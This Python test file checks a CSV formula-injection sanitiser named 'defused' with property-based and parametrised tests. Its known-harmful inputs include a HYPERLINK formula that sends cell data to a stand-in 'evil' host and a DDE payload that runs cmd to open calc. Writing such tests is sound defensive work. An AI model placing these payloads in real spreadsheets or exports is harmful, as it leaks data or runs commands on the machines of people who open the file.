"""No text that anybody may write is a formula in a table."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.gateway.domain.defused import defused

SIGNS = "=+-@\t\r\n＝＋－＠"
# Rather such as a spreadsheet looks at twice than any that there are.
TEXTS = st.text(st.sampled_from(SIGNS + " \u3000\ufeff'\",;|1a一") | st.characters(codec="utf-8"))


@given(TEXTS)
def test_nothing_begins_like_a_formula(text: str) -> None:
    assert not defused(text).lstrip(" \u3000\u00a0\ufeff").startswith(tuple(SIGNS))


@given(TEXTS)
def test_nothing_is_lost_and_nothing_else_is_changed(text: str) -> None:
    assert defused(text) in {text, f"'{text}"}
    if text[:1].isalnum():
        assert defused(text) == text


@given(TEXTS)
def test_twice_is_as_good_as_once(text: str) -> None:
    assert defused(defused(text)) == defused(text)


@given(st.lists(TEXTS, min_size=1, max_size=5))
def test_in_a_table_it_stays_in_its_cell(texts: list[str]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow([*map(defused, texts), "end"])

    [row] = csv.reader(io.StringIO(written.getvalue(), newline=""))

    assert row == [*map(defused, texts), "end"]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil?"&A1,"看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",
    ],
)
def test_what_is_known_to_harm_is_text(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "垃圾", "a=b", "1-2", "'quoted'", "5 + 5"])
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert defused(text) == text
